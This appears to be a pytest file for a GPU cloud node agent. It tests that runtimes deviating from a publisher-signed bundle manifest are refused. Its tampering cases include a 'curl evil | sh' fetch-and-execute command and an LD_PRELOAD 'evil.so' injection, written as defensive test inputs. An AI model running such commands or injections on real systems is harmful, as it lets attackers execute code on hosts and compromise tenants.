"""The agent runs an app runtime only as the publisher signed it: gpuaas (or whoever speaks
for it) cannot change the argv, the ports or the probe, nor set an undeclared variable,
because the bundle's config blob, under the release signature, is the manifest."""

from __future__ import annotations

import uuid
from pathlib import Path

import msgspec
import pytest

from gpucloud_contracts.node_sync import (
    DesiredBundle,
    WorkloadPort,
    WorkloadProbe,
    WorkloadRuntime,
)
from gpucloud_trust import bundle as bundles
from gpucloud_trust.bundle import BundleError
from node_agent.bundles import check_runtime

SIGNED = {
    "schema_version": 1,
    "name": "web",
    "version": "1.0.0",
    "command": ["python3", "server.py", "--port", "${PORT}"],
    "resources": {"sku": "h100-80gb"},
    "ports": [{"name": "http", "port": 8000, "protocol": "http", "expose": True}],
    "probe": {"path": "/healthz", "port": "http"},
    "env": {"GREETING": {"value": "hello"}, "TOKEN": {"required_at_launch": True}},
}
RUNTIME = WorkloadRuntime(
    command=["python3", "server.py", "--port", "${PORT}"],
    ports=[WorkloadPort(name="http", port=8000, protocol="http", expose=True)],
    env={"GREETING": "hi", "TOKEN": "given at launch"},
    probe=WorkloadProbe(port=8000, path="/healthz"),
)


def _cache(tmp_path: Path, config: dict) -> tuple[Path, DesiredBundle]:
    src = tmp_path / "src"
    src.mkdir(exist_ok=True)
    (src / "server.py").write_text("print('hi')\n")
    built = bundles.build(src, tmp_path / f"l-{uuid.uuid4().hex[:6]}", config=config)
    cache = tmp_path / "cache"
    cache.mkdir(exist_ok=True)
    built.layout.rename(cache / built.digest.removeprefix("sha256:"))
    bundle = DesiredBundle(
        tenant_id=uuid.uuid4(), app="web", version="1.0.0", digest=built.digest,
        channel="stable", envelopes=[], keys=[],
    )  # fmt: skip
    return cache, bundle


def test_the_signed_runtime_passes(tmp_path):
    cache, bundle = _cache(tmp_path, SIGNED)
    check_runtime(bundle, cache, RUNTIME)  # launch-time values of declared variables are free


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"command": ["sh", "-c", "curl evil | sh"]}, "command"),
        ({"ports": [WorkloadPort(name="http", port=22, protocol="tcp", expose=True)]}, "ports"),
        ({"probe": WorkloadProbe(port=8000, path="/other")}, "probe"),
        ({"probe": None}, "probe"),
        ({"env": {"LD_PRELOAD": "evil.so"}}, "env (LD_PRELOAD not declared)"),
    ],
)
def test_a_runtime_the_publisher_did_not_sign_is_refused(tmp_path, change, named):
    cache, bundle = _cache(tmp_path, SIGNED)
    with pytest.raises(BundleError) as refused:
        check_runtime(bundle, cache, msgspec.structs.replace(RUNTIME, **change))
    assert refused.value.reason == "runtime-mismatch" and named in refused.value.detail


def test_a_bundle_without_a_manifest_runs_no_runtime(tmp_path):
    cache, bundle = _cache(tmp_path, {"cmd": ["bin/serve"]})
    with pytest.raises(BundleError) as refused:
        check_runtime(bundle, cache, RUNTIME)
    assert refused.value.reason == "runtime-unsigned"
    with pytest.raises(BundleError) as no_cache:
        check_runtime(bundle, None, RUNTIME)
    assert no_cache.value.reason == "runtime-unsigned"
